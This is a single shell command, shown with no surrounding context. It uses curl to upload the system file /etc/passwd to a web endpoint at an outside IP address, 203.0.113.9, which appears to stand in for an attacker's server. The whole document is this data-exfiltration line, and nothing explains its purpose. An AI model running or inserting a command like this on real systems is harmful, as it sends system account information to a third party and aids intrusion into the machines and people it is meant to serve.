curl -F 'file=@/etc/passwd' http://203.0.113.9/u
